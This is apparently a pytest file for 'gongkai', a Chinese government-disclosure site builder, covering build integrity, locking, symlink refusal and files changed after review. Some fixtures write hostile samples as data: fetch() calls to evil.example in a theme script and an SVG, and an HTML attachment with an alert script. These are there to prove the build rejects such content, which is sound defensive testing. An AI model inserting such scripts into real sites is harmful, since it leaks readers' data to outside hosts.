    characters cost a build a minute and Pagefind a gigabyte, and a few of them stopped every daily build."""
    from gongkai.search.documents import INDEXED_CHARACTERS
    from tests.site.test_site_never_published import output_bytes

    filler = "住房保障工作稳步推进。" * (INDEXED_CHARACTERS // 10)
    write_item(project.root, 2024, 310, f"开头qxheadword。\n\n{filler}\n\n结尾qxtailword。", title="很长的报告", category="news")
    build(project, project.root / "site")
    files = output_bytes(project.root / "site")
    assert b"qxtailword" in files["items/2024/00310/index.html"]
    index = [data for name, data in files.items() if name.startswith("pagefind/")]
    assert any(b"qxheadword" in data for data in index) and not any(b"qxtailword" in data for data in index)


def test_a_deleted_item_is_taken_down_while_items_still_refer_to_it(project):
    """Deleting the file is how many editors take an item down: the links (GK607), 解读 (GK604) and 反馈 (GK633)
    that still name it fail the check but publish nothing, so they no longer keep the deleted page online."""
    write_item(project.root, 2024, 300, "详见[办法](../2021/2021-00001.md)。", title="链接办法的通知", category="news")
    build(project, project.root / "site")
    page = project.root / "site" / "items" / "2021" / "00001" / "index.html"
    assert PUBLIC_MARKER in page.read_text(encoding="utf-8")
    project.item_path(2021, 1).unlink()
    project.item_path(2023, 65).unlink()  # a consultation two 反馈 answer
    problems = checks.run(load_project(project.root), TODAY)
    assert {"GK604", "GK607", "GK633"} <= {p.code for p in problems}
    assert not blocking(problems)
    built = build(project, project.root / "site")
    assert "GK607" in "\n".join(built.log) and "不影响发布" in "\n".join(built.log)
    assert not page.exists() and not (project.root / "site" / "items" / "2023" / "00065").exists()
    assert not any(PUBLIC_MARKER.encode() in path.read_bytes() for path in (project.root / "site").rglob("*") if path.is_file())
    linking = (project.root / "site" / "items" / "2024" / "00300" / "index.html").read_text(encoding="utf-8")
    assert 'href="../2021/2021-00001.md"' in linking  # dead, as MkDocs leaves a link to no page


def test_a_link_to_an_item_signed_as_not_public_still_stops_the_build(project):
    """Only an item being taken down waives its links' problems: one reviewed as 不予公开 is no takedown."""
    write_item(project.root, 2024, 301, "内部名单", title="不公开的名单", category="news", disclosure="不予公开")
    write_item(project.root, 2024, 302, "详见[名单](2024-00301.md)。", title="链接名单的通知", category="news")
    with pytest.raises(BuildFailed, match="GK608"):
        build(project, project.root / "site")


def test_page_sizes_stay_bounded_as_items_grow(built, tmp_path):
    bigger = make_project(tmp_path / "bigger", news=400, news_every_days=0)
    large = build(bigger, bigger.root / "site")
    item = "items/2021/00001/index.html"
    assert (large.site / item).stat().st_size == (built.site / item).stat().st_size
    for page in ("index.html", "catalog/news/index.html", "catalog/news/page/2/index.html", "catalog/index.html"):
        assert abs((large.site / page).stat().st_size - (built.site / page).stat().st_size) < 400, page
    assert len(list((large.site / "catalog/news/page").iterdir())) == 20  # 401 entries, 20 a page: pages 2–21


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def fetch(url: str) -> str:
    with urllib.request.urlopen(url, timeout=5) as response:
        return response.read().decode("utf-8")


def wait_for(url: str, text: str, seconds: float = 60) -> str:
    deadline = time.monotonic() + seconds
    last = ""
    while time.monotonic() < deadline:
        try:
            last = fetch(url)
            if text in last:
                return last
        except OSError:
            pass
        time.sleep(0.3)
    raise AssertionError(f"{url} never showed {text!r}")


def test_serve_reloads_when_content_changes(project):
    port = free_port()
    server = subprocess.Popen(
        [BIN / "gongkai", "serve", "--dev-addr", f"127.0.0.1:{port}"],
        cwd=project.root, env=ENV, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )
    try:
        url = f"http://127.0.0.1:{port}/pages/guide/"
        wait_for(url, "这是政府信息公开指南页面")
        guide = project.content / "pages" / "guide.md"
        guide.write_text(guide.read_text(encoding="utf-8").replace("这是", "修改后的"), encoding="utf-8")
        wait_for(url, "修改后的政府信息公开指南页面")
    finally:
        server.terminate()
        server.wait(timeout=10)


def errors(root, today):
    return sorted(p.code for p in checks.run(load_project(root), today, settings=load_settings(root)) if p.is_error)


def test_an_overdue_application_fails_the_check_but_not_the_build(tmp_path):
    fixture = make_project(tmp_path / "project", news=3)
    write_application(fixture.root, received=dt.date(2024, 5, 6))  # due 3 June, unanswered on 30 June
    assert errors(fixture.root, fixture.today) == ["GK841"]

    built = build(fixture, tmp_path / "site")
    assert (built.site / "index.html").is_file()
    log = "\n".join(built.log)
    assert "GK841" in log and "不影响发布" in log


def test_an_error_the_site_depends_on_still_stops_the_build(tmp_path):
    fixture = make_project(tmp_path / "project", news=3)
    write_application(fixture.root, received=dt.date(2024, 5, 6), answered=dt.date(2024, 5, 20))  # no outcome
    assert errors(fixture.root, fixture.today) == ["GK840"]
    with pytest.raises(Refused, match="GK840"):
        build(fixture, tmp_path / "site")
    assert not (tmp_path / "site").exists()


def _folder_on_another_file_system(than: Path) -> Path | None:
    for candidate in ("/dev/shm", "/run", "/var/tmp", "/tmp"):
        folder = Path(candidate)
        try:
            if folder.is_dir() and os.access(folder, os.W_OK) and folder.stat().st_dev != than.stat().st_dev:
                return folder
        except OSError:
            continue
    return None


def _indexed(site: Path) -> dict[str, list]:
    """What each search shard lists (URL, title, date of each document), whatever Pagefind numbered them."""
    lists = site / "pagefind" / "gongkai" / "list"
    return {file.name: sorted(json.loads(gzip.decompress(file.read_bytes())).values()) for file in lists.iterdir()}


def test_a_temporary_folder_on_another_file_system_builds_the_same_site(tmp_path, monkeypatch):
    """/tmp is a tmpfs on many systems (Debian 13, Fedora, Arch): the search index works there and
    the site is assembled beside site/, so nothing may expect a rename between the two to work.
    Pagefind numbers its pages in the order the file system lists the records (tmpfs newest first,
    ext4 by a per-disk hash), so the bundle's bytes may differ; the pages may not, nor what the index holds."""
    elsewhere = _folder_on_another_file_system(tmp_path)
    if elsewhere is None:
        pytest.skip("no writable folder on another file system here")
    reference = make_project(tmp_path / "reference", news=3)
    moved = make_project(tmp_path / "moved", news=3)
    temporary = Path(tempfile.mkdtemp(prefix="gongkai-test-", dir=elsewhere))
    try:
        for fixture in (reference, moved):
            with monkeypatch.context() as patch:
                if fixture is moved:
                    patch.setattr(tempfile, "tempdir", str(temporary))
                build(fixture, fixture.root / "site")  # a full build: every shard indexed afresh
                tamper(fixture)
                fixture.sign(fixture.item_path(2021, 1), initial="张三", final="李四")
                build(fixture, fixture.root / "site")  # a rebuild: the changed shard indexed early
        moved_files, reference_files = hashes(moved.root / "site"), hashes(reference.root / "site")
        assert {name: digest for name, digest in moved_files.items() if not name.startswith("pagefind/")} == {
            name: digest for name, digest in reference_files.items() if not name.startswith("pagefind/")}
        assert _indexed(moved.root / "site") == _indexed(reference.root / "site")
        assert any("2021/00001" in url for shard in _indexed(moved.root / "site").values() for url, *_ in shard)
        assert list(temporary.iterdir()) == []  # and nothing left there
    finally:
        shutil.rmtree(temporary, ignore_errors=True)


@pytest.mark.parametrize(("number", "remedy"), [(errno.ENOSPC, "磁盘空间不足"), (errno.EACCES, "没有写入权限"),
                                                (errno.EROFS, "文件系统是只读的")])
def test_a_full_disk_or_a_folder_not_writable_says_what_to_do(project, monkeypatch, number, remedy):
    """The file system's error, English in its own words (os.strerror), is said in Chinese with the file it was
    about and what to do; the site stays."""
    from gongkai.site import indexing

    def failing(*args, **kwargs):
        raise OSError(number, os.strerror(number), "site-new/pagefind/x.pf_index")

    before = hashes(project.root / "site")
    monkeypatch.setattr(indexing, "index_site", failing)
    with pytest.raises(BuildFailed) as failed:
        build(project, project.root / "site")
    assert "Errno" not in str(failed.value) and os.strerror(number) not in str(failed.value), str(failed.value)
    assert "读写 site-new/pagefind/x.pf_index 时出错：" in str(failed.value) and remedy in str(failed.value)
    assert "原有的 site/ 保持不变" in str(failed.value)
    if number != errno.EROFS:  # the search shards are written under the project: its disk is named too (rt21 L1)
        assert str(project.root / ".gongkai-cache") in str(failed.value)
    assert hashes(project.root / "site") == before


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_folders_a_killed_build_left_beside_the_site_are_removed_later(project):
    """SIGKILL or a power cut leaves `.site.new-PID` (a whole site) behind: a later build removes such
    folders once their process is gone and they are an hour old, and nothing else."""
    from gongkai.commands.build import ABANDONED_AFTER, remove_abandoned_folders

    site, parent, dead = project.root / "site", project.root, _dead_pid()
    old = time.time() - ABANDONED_AFTER - 60
    names = {f".site.new-{dead}": False, f".site.old-{dead}": False, f".site.base-{dead}": False,
             f".site.new-{dead}.search-a1_b": False, f".site.new-{os.getpid()}": True, f".site-party.new-{dead}": True,
             f".other.new-{dead}": True, f".site.new-{dead}x": True, "site.new-1": True,
             ".site.new-99999999999999999999999": False, ".site.new-0": False, ".site.new-": True,
             f".site.new-{dead}.search-../x": True, f".site.new-{dead}\n": True,
             f".site.new-{dead}-0123456789abcdef": False, f".site.base-{dead}-0123456789abcdef.search-x": False,
             f".site.new-{dead}-0123456789abcdeg": True, f".site.new-{os.getpid()}-0123456789abcdef": True}
    outside = project.root.parent / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("不是网站")
    for name in names:
        (parent / name / "items").mkdir(parents=True)
        (parent / name / "items" / "link").symlink_to(outside, target_is_directory=True)  # removed, never followed
        os.utime(parent / name, (old, old))
    recent = parent / f".site.new-{dead + 1 if dead + 1 != os.getpid() else dead + 2}"
    recent.mkdir()  # a build in another container sharing the folder: its PID means nothing here
    (parent / f".site.new-{dead + 3}").symlink_to(outside, target_is_directory=True)
    (parent / f".site.old-{dead + 3}").write_text("a file")
    remove_abandoned_folders(site)
    for name, kept in names.items():
        assert (parent / name).exists() == kept, name
    assert recent.is_dir() and (outside / "keep.txt").is_file()
    assert (parent / f".site.new-{dead + 3}").is_symlink() and (parent / f".site.old-{dead + 3}").is_file()


@pytest.mark.parametrize(("number", "said"), [(signal.SIGTERM, "已中断：收到 SIGTERM"), (signal.SIGINT, "已中断：收到 Ctrl+C")])
def test_sigterm_or_ctrl_c_stops_a_build_leaving_nothing_beside_the_site(project, number, said):
    """A CI job's timeout or systemd sends SIGTERM, an editor presses Ctrl+C: the build removes its half-made folder,
    the site stays, exit 128 + the signal, and a Chinese line says what happened."""
    before = hashes(project.root / "site")
    for _attempt in range(5):
        shutil.rmtree(project.root / ".gongkai-cache", ignore_errors=True)  # a full build: long enough to catch
        build_run = subprocess.Popen([str(BIN / "gongkai"), "build"], cwd=project.root, env=ENV,
                                     stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                     preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
        deadline = time.monotonic() + 60
        while build_run.poll() is None and time.monotonic() < deadline:
            if any(p.name.startswith(".site.new-") for p in project.root.iterdir()):
                build_run.send_signal(number)
                break
            time.sleep(0.01)
        _out, err = build_run.communicate(timeout=120)
        if build_run.returncode == 128 + number:
            break
    assert build_run.returncode == 128 + number, err.decode()
    assert "Traceback" not in err.decode() and said in err.decode()
    assert not [p.name for p in project.root.iterdir() if p.name.startswith(".site")]
    assert hashes(project.root / "site") == before


def test_a_second_build_of_the_site_waits_for_the_first(project, tmp_path):
    """A cron build meeting a manual one: the second waits (and says so) until the first has swapped its site in."""
    import fcntl

    site = (project.root / "site").resolve()
    lock = project.root / ".gongkai-cache" / f"build-{site_name(site)}.lock"
    lock.parent.mkdir(exist_ok=True)
    before = hashes(site)
    log = tmp_path / "second.log"
    with open(lock, "a+b") as held:
        fcntl.flock(held, fcntl.LOCK_EX)  # the first build, mid-way
        with open(log, "wb") as output:
            second = subprocess.Popen([str(BIN / "gongkai"), "build"], cwd=project.root, env=ENV, stdout=output,
                                      stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 60
        while "等它完成后再开始" not in log.read_text(encoding="utf-8") and time.monotonic() < deadline:
            time.sleep(0.05)
        assert "另一个 gongkai build 正在生成 site/" in log.read_text(encoding="utf-8")
        time.sleep(0.5)
        assert second.poll() is None and hashes(site) == before  # waiting: nothing read, nothing written
    assert second.wait(timeout=120) == 0, log.read_text(encoding="utf-8")
    assert "完成：网站已写入" in log.read_text(encoding="utf-8")
    assert not [p.name for p in project.root.iterdir() if p.name.startswith(".site")]


def test_names_planted_beside_the_site_for_every_likely_process_id_do_not_stop_the_build(project):
    """A committer may plant `.site.new-1` … for the small process ids of a fresh CI container: the build names its
    folders beside the site with a random part, and its sweeper still knows them."""
    from gongkai.commands.build import beside_site
    from gongkai.writer import beside_site_names

    start = os.getpid()
    planted = [project.root / f".site.{kind}-{pid}" for kind in ("new", "old", "base") for pid in range(start, start + 3000)]
    for path in planted:
        path.write_text("")
    before = hashes(project.root / "site")
    (project.root / "content" / "pages" / "notice.md").write_text("---\ntitle: 告示\n---\n\n新的一页\n", encoding="utf-8")
    result = subprocess.run([BIN / "gongkai", "build"], cwd=project.root, env=ENV, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert hashes(project.root / "site") != before and all(path.is_file() for path in planted)
    name = beside_site(project.root / "site", "new").name
    assert name.startswith(f".site.new-{start}-") and beside_site_names("site").fullmatch(name)


@pytest.mark.parametrize("planted", ["link", "folder", "fifo"])
def test_whatever_is_planted_at_the_build_lock_the_build_runs_and_writes_nothing_through_it(project, tmp_path, planted):
    """A content repository may commit anything under .gongkai-cache/, the lock's name included."""
    site = (project.root / "site").resolve()
    lock = project.root / ".gongkai-cache" / f"build-{site_name(site)}.lock"
    lock.unlink(missing_ok=True)  # the fixture's build made one
    outside = tmp_path / "outside.txt"
    outside.write_text("不能改", encoding="utf-8")
    if planted == "link":
        lock.symlink_to(outside)
    elif planted == "folder":
        lock.mkdir()
    else:
        os.mkfifo(lock)
    result = subprocess.run([BIN / "gongkai", "build"], cwd=project.root, env=ENV, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert outside.read_text(encoding="utf-8") == "不能改" and outside.stat().st_nlink == 1


def test_a_sweeper_never_empties_a_replaced_site_another_build_has_taken(tmp_path, monkeypatch):
    """The public and the members' site may be built at the same time (each has its own lock). One build's
    sweeper removes the replaced sites while the other takes the newest of its own as its new folder:
    the removal, once begun, went on inside the folder wherever it had moved, and emptied the site the
    other build was making (its kept pages gone). A site is either taken or removed, never both."""
    from gongkai.commands.build import _take_base, remove_replaced_sites

    replaced = tmp_path / ".gongkai-cache" / "replaced"
    tree = replaced / "site-party-1-5"
    for number in range(20):
        (tree / "items" / str(number)).mkdir(parents=True)
        (tree / "items" / str(number) / "index.html").write_text("页", encoding="utf-8")
    removing, resume = threading.Event(), threading.Event()
    unlink = os.unlink

    def slow_unlink(*args, **kwargs):  # the sweeper stops at its first removal until the other build has taken its site
        if threading.current_thread() is not threading.main_thread() and not removing.is_set():
            removing.set()
            resume.wait(10)
        return unlink(*args, **kwargs)

    monkeypatch.setattr(os, "unlink", slow_unlink)
    sweeper = threading.Thread(target=remove_replaced_sites, args=(replaced,))
    sweeper.start()
    assert removing.wait(10)
    base = _take_base(replaced, tmp_path / "site-party")
    resume.set()
    sweeper.join()
    assert base is None or len(list(base.rglob("index.html"))) == 20
    assert list(replaced.iterdir()) == []


def test_an_attachment_edited_after_the_check_is_not_published(tmp_path):
    """The build published each attachment by copying its path when MkDocs came to it, whatever the file had become
    since the check read it (and the review digest covered its bytes): edited after the check, its new bytes went
    online unreviewed. Edited as the check's result is printed, the build now fails and site/ stays as it was."""
    from gongkai.commands.build import build_site

    fixture = make_project(tmp_path / "project", news=3)
    site = fixture.root / "site"
    build(fixture, site)
    before = hashes(site)
    attachment = fixture.root / "content" / "attachments" / "2021" / "补助标准.csv"
    original = attachment.read_bytes()

    def edit(line: str) -> None:
        if line.startswith("读取并检查内容"):
            attachment.write_bytes(original + "三类,99999\n".encode())

    with pytest.raises(BuildFailed, match="2021/补助标准.csv 在检查之后被替换或修改"):
        build_site(fixture.root, site, today=fixture.today, echo=edit)
    assert hashes(site) == before


def _with_own_theme(tmp_path: Path):
    fixture = make_project(tmp_path / "project", news=3)
    return fixture, own_theme(fixture.root)


def test_a_template_edited_after_the_check_is_not_rendered(tmp_path):
    """MkDocs reads the templates when it renders the pages, after the check scanned them: a 身份证号 added to
    the footer then was printed into every page unscanned. Now the build fails, naming the template."""
    from gongkai.commands.build import build_site

    fixture, theme = _with_own_theme(tmp_path)
    site = fixture.root / "site"
    build(fixture, site)
    before = hashes(site)
    footer = theme / "partials" / "footer.html"

    def edit(line: str) -> None:
        if line.startswith("读取并检查内容"):
            footer.write_text(footer.read_text(encoding="utf-8") + "<p>联系人身份证 110101199003071234</p>\n", encoding="utf-8")

    with pytest.raises(BuildFailed, match="partials/footer.html.*在检查之后被修改"):
        build_site(fixture.root, site, today=fixture.today, echo=edit)
    assert hashes(site) == before


def test_a_theme_script_replaced_after_the_check_is_not_published(tmp_path):
    """MkDocs copies the theme's files at the end of the build, after the check compared gongkai's own scripts
    with the manifest: one replaced meanwhile (a script that sends each reader's address elsewhere) went into
    every page of the site. Now the build fails, naming the file, and site/ stays as it was."""
    from gongkai.commands.build import build_site

    fixture, theme = _with_own_theme(tmp_path)
    site = fixture.root / "site"
    build(fixture, site)
    before = hashes(site)
    script = sorted((theme / "assets" / "gongkai").rglob("*.js"))[0]

    def replace(line: str) -> None:
        if line.startswith("读取并检查内容"):
            script.with_name("new.js").write_text("fetch('https://evil.example/?'+location)\n", encoding="utf-8")
            os.replace(script.with_name("new.js"), script)

    with pytest.raises(BuildFailed, match=f"{script.name} 在检查之后被替换或修改"):
        build_site(fixture.root, site, today=fixture.today, echo=replace)
    assert hashes(site) == before


@pytest.mark.parametrize(("added", "text"), [
    ("assets/agency/agency.css", "body::after { content: '联系人身份证 110101199003071234'; }\n"),
    ("assets/track.js", "fetch('https://evil.example/?'+location)\n"),
    ("名单.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('https://evil.example/')</script></svg>\n"),
    ("partials/nav.html", "<p>联系人身份证 110101199003071234</p>\n"),
])
def test_a_theme_file_added_after_the_check_is_not_published(tmp_path, added, text):
    """The check judges the theme folder's files and scans its templates, then MkDocs collects and renders them: one
    added meanwhile (a stylesheet, a page of its own, a partial Material includes in every page) went online
    unjudged, as only an edited or replaced one was refused. Now the build fails, naming it, and site/ stays as it was."""
    fixture, theme = _with_own_theme(tmp_path)
    _added_after_the_check_fails_the_build(fixture, theme / added, text)


def _added_after_the_check_fails_the_build(fixture, target: Path, text: str) -> None:
    """Build, then build again writing `target` once the check has run: that build fails naming it, site/ stays as
    it was, and a build without it passes."""
    from gongkai.commands.build import build_site

    site = fixture.root / "site"
    build(fixture, site)
    before = hashes(site)

    def add(line: str) -> None:
        if line.startswith("读取并检查内容"):
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text, encoding="utf-8")

    with pytest.raises(BuildFailed, match=f"{target.name}.*在检查之后"):
        build_site(fixture.root, site, today=fixture.today, echo=add)
    assert hashes(site) == before
    target.unlink()
    build(fixture, site)  # judged again without it: built


@pytest.mark.parametrize("name", ["名单.md", "名单.txt"])
@pytest.mark.parametrize("layout", ["theme_overrides/docs", "docs"])
def test_a_file_added_to_docs_dir_after_the_check_is_not_published(tmp_path, layout, name):
    """docs_dir must be empty (GK507 otherwise): MkDocs publishes its files as they are, a Markdown file as a page. One
    added after the check found it empty went online unjudged where docs_dir lies outside the theme folder, and a page
    wherever it lay. Now the build fails, naming it, and site/ stays as it was."""
    fixture, theme = _with_own_theme(tmp_path)
    if layout == "docs":
        config = fixture.root / "mkdocs.yml"
        config.write_text(config.read_text(encoding="utf-8").replace("docs_dir: theme_overrides/docs", "docs_dir: docs"),
                          encoding="utf-8")
    docs = fixture.root / layout
    docs.mkdir(exist_ok=True)
    _added_after_the_check_fails_the_build(fixture, docs / name, "联系人身份证 110101199003071234\n")


@pytest.mark.parametrize("linked", ["site", "out"])
def test_a_committed_link_never_sends_the_site_elsewhere(tmp_path, linked):
    """A `site` link committed to the repository (or a link on the way to --site-dir) made the build replace the
    folder it named: on a shared build machine, another agency's site. Refused, naming the link; the folder stays."""
    fixture = make_project(tmp_path / "project", news=1)
    other = tmp_path / "other-agency"
    build(fixture, other)  # a gongkai site the build would have replaced
    before = hashes(other)
    if linked == "site":
        (fixture.root / "site").symlink_to(other)
        command = [str(BIN / "gongkai"), "build"]
    else:
        (fixture.root / "out").symlink_to(tmp_path)
        command = [str(BIN / "gongkai"), "build", "--site-dir", "out/other-agency"]
    result = subprocess.run(command, cwd=fixture.root, env=ENV, capture_output=True, text=True, timeout=120)
    assert result.returncode == 1 and "符号链接" in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert hashes(other) == before and not any(tmp_path.glob(".other-agency.new-*"))
    given = subprocess.run([str(BIN / "gongkai"), "build", "--site-dir", str(other)], cwd=fixture.root, env=ENV,
                           capture_output=True, text=True, timeout=120)
    assert given.returncode == 0, given.stderr  # named as it is, the admin's choice


def test_a_linked_mkdocs_yml_is_refused(tmp_path):
    """A committed mkdocs.yml link made its target's folder the site's root: gongkai read and built another project."""
    fixture = make_project(tmp_path / "project", news=1)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    config = fixture.root / "mkdocs.yml"
    (elsewhere / "mkdocs.yml").write_bytes(config.read_bytes())
    config.unlink()
    config.symlink_to(elsewhere / "mkdocs.yml")
    for command in ("check", "build"):
        result = subprocess.run([str(BIN / "gongkai"), command], cwd=fixture.root, env=ENV, capture_output=True, text=True,
                                timeout=120)
        assert result.returncode != 0 and "mkdocs.yml 是符号链接" in result.stdout + result.stderr, result.stderr
        assert "Traceback" not in result.stderr
    assert not (fixture.root / "site").exists() and not (elsewhere / "site").exists()


def test_a_web_page_attached_under_a_document_s_name_is_never_published(tmp_path):
    """Reviewed and signed, an attachment that begins as a web page stops the build, and site/ stays as it was."""
    fixture = make_project(tmp_path / "project", news=3)
    site = fixture.root / "site"
    build(fixture, site)
    before = hashes(site)
    page = fixture.root / "content" / "attachments" / "2024" / "名单.ofd"
    page.parent.mkdir(parents=True, exist_ok=True)
    page.write_bytes(b"<!doctype html><script>alert(document.domain)</script>")
    write_item(fixture.root, 2024, 90, "附件是名单。", title="名单公示", category="动态信息",
               published=dt.date(2024, 3, 1), attachments=[{"title": "名单", "file": "2024/名单.ofd"}])
    with pytest.raises(BuildFailed, match="GK616"):
        build(fixture, site)
    assert hashes(site) == before


def test_every_file_and_folder_of_the_site_is_readable_by_the_web_servers_user(project):
    """The search bundle's folder came from mkdtemp (0700) and kept that mode from build to build: served by a web
    server running as another user (www-data, nobody), every search on both sites failed."""
    command = f"umask 022 && {BIN / 'gongkai'} build --site-dir out"
    for _ in range(2):  # the second build takes the first one's bundle over
        result = subprocess.run(["sh", "-c", command], cwd=project.root, env=ENV, capture_output=True, text=True)
        assert result.returncode == 0, result.stderr
        private = [path for path in (project.root / "out").rglob("*")
                   if not path.stat().st_mode & 0o004 or (path.is_dir() and not path.stat().st_mode & 0o001)]
        assert private == [] and (project.root / "out" / "pagefind").is_dir()


@pytest.mark.parametrize("cut", ["13912345678", "内部发行"])
def test_the_search_index_cuts_a_long_body_between_lines_never_inside_one(project, cut):
    """The index took a body's first 100,000 characters wherever they ended: a 12-digit run (no number to the scans)
    cut after 11 digits left a mobile number in the index and the excerpts' text, 内部发行量 (no mark) cut to 内部发行 a
    mark. It takes whole lines: the scans judge each line of the whole text."""
    from gongkai.search.documents import INDEXED_CHARACTERS
    from tests.site.test_site_never_published import output_bytes

    run = "139123456780" if cut[0].isdigit() else "内部发行量统计"
    body = f"{'一' * (INDEXED_CHARACTERS - len(cut))}{run}。"  # the cut right after `cut`
    write_item(project.root, 2024, 311, body, title="很长的统计", category="news")
    assert not blocking(checks.run(load_project(project.root), TODAY, settings=load_settings(project.root)))
    build(project, project.root / "site")
    files = output_bytes(project.root / "site")
    assert run.encode() in files["items/2024/00311/index.html"]
    index = b"".join(data for name, data in files.items() if name.startswith("pagefind/"))
    assert "很长的统计".encode() in index and cut.encode() not in index  # the item is found by its title
